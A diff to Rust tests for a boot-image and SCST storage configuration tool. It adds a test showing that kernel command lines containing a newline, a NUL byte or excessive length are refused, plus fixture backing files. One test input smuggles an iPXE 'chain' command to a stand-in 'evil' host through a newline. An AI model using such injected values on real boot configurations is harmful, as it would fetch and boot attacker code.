@@ -206,6 +206,35 @@ fn source_date_epoch_beyond_32_bits_is_refused_by_the_recipe() {
 }
 
 #[test]
+fn a_kernel_command_line_that_is_not_one_line_is_refused_by_the_recipe() {
+    // A newline would start a new command in boot.ipxe or a new key in a loader entry.
+    let p = Project::new();
+    let recipe = std::fs::read_to_string(p.recipe()).unwrap();
+    let long = "a".repeat(2048);
+    for (value, want) in [
+        (
+            r#""console=ttyS0\nchain http://192.0.2.1/evil""#,
+            "[kernel] cmdline: contains the control character '\\n': expected one line of printable text",
+        ),
+        (
+            r#""console=ttyS0\u0000""#,
+            "[kernel] cmdline: contains the control character '\\0'",
+        ),
+        (
+            &format!("\"{long}\"") as &str,
+            "[kernel] cmdline: is 2048 bytes long: expected less than 2048",
+        ),
+    ] {
+        std::fs::write(
+            p.recipe(),
+            recipe.replacen("[kernel]\n", &format!("[kernel]\ncmdline = {value}\n"), 1),
+        )
+        .unwrap();
+        refused_before_any_stage(&p, &[want, "recipes/test.toml:"]);
+    }
+}
+
+#[test]
 fn two_backstores_on_one_file_and_duplicate_addresses_are_refused() {
     let p = Project::new();
     let base = "hostname = \"test-node\"\n[modules]\nload = [\"target_core_mod\"]\n";
@@ -273,6 +302,11 @@ fn scst_tree() -> tempfile::TempDir {
     let d = t.path();
     write(d, "etc/sanforge/node.toml", NODE);
     write(d, "etc/sanforge/scst.conf", A);
+    // The backing files exist, as on a real node: the init leaves out a device whose
+    // backing file is absent.
+    for f in ["a", "b", "c"] {
+        write(d, f, "");
+    }
     let s = d.join("sys/kernel/scst_tgt");
     write(&s, "last_sysfs_mgmt_res", "0\n");
     write(&s, "handlers/vdisk_fileio/mgmt", "");
